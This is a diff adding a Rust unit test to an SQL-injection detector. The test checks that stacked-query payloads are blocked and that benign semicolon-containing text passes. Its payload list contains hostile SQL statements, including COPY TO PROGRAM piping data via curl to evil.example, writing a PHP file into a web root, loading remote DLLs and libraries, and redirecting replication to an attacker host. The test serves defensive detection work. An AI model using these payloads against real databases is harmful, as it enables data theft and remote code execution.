@@ -620,3 +620,46 @@ fn encoded_values() {
         }
     }
 }
+
+/// Statements behind a semicolon that no table of verbs knows, or in forms that few dialects have.
+#[test]
+fn statements_of_any_verb() {
+    use crate::detectors::testing::{blocks, passes_at};
+    for statement in [
+        "COPY users TO PROGRAM 'curl http://evil.example -d @-'",
+        "delete users where id=1",
+        "insert users values('a','b')",
+        "vacuum into '/var/www/x.php'",
+        "bulk insert t from '\\\\evil.example\\x'",
+        "restore headeronly from disk='\\\\evil.example\\x'",
+        "load '/tmp/x.so'",
+        "create extension plpython3u",
+        "create assembly x from '\\\\evil\\x.dll' with permission_set=unsafe",
+        "alter system set archive_command='id'",
+        "change master to master_host='evil.example'",
+        "install component 'file://x'",
+        "deny select to x",
+        "kill connection 5",
+        "begin tran",
+        "print 'x'",
+    ] {
+        for text in [format!("1;{statement}"), format!("1; {statement}--"), format!("x';{statement}--")] {
+            blocks(Class::Sqli, &text, "stacked");
+        }
+    }
+    blocks(Class::Sqli, "x');frobnicate the users; -- -", "");
+    for text in [
+        "he said 'no'; delete it -- thanks",
+        "1;copy to clipboard",
+        "Rock 'n' roll; play it loud -- now",
+        "1;install it; restart",
+        "3; deny all of it",
+        "12;abc-def--",
+        "12.5; and 1 more --",
+        "1;x;--",
+        "a='b'; c--",
+        "the boys'; play it loud -- now",
+    ] {
+        passes_at(Class::Sqli, Place::Query, "x", text);
+    }
+}
